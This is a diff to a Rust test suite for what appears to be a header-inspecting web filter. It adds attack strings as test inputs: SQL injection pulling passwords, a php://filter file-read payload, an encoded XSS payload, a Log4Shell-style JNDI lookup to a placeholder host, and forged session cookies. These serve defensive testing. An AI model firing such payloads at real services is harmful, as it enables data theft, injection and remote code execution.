@@ -36,6 +36,11 @@ fn every_header_is_judged() {
         ("If-None-Match", "\"x' union select 1,2-- \""),
         ("Authorization", "Digest username=\"x' or '1'='1\", realm=\"a\""),
         ("Authorization", "Basic YScgb3IgJzEnPScxOmI="),
+        ("Authorization", "Basic !YScgb3IgJzEnPScxOmI"),
+        ("If-None-Match", "\"1 UNION SELECT password FROM users\""),
+        ("Accept-Language", "php://filter/convert.base64-encode/resource=index"),
+        ("Accept-Language", "%3Csvg/onload=alert%601%60%3E"),
+        ("Cookie", "q=\"$\\{jndi:ldap://a.example/a}\""),
         ("X-Forwarded-For", "127.0.0.1' or sleep(5)-- "),
         ("Cookie", "id' union select 1,password from users-- =1"),
         ("Cookie", "user[$ne]=1"),
@@ -165,6 +170,9 @@ fn every_credential_is_verified_or_taken_away() {
         &[("Cookie", "session=forged")],
         &[("Cookie", "a=\u{e9}; session=forged; b=2")],
         &[("X-API-Key", "bob"), ("Cookie", "session=forged")],
+        &[("Cookie", "session[]=forged")],
+        &[("Cookie", "\u{a0}session=forged")],
+        &[("Cookie", "a=1 session=forged")],
     ] {
         let (answer, seen) = ask(headers);
         assert_eq!(answer, 200, "{headers:?}");
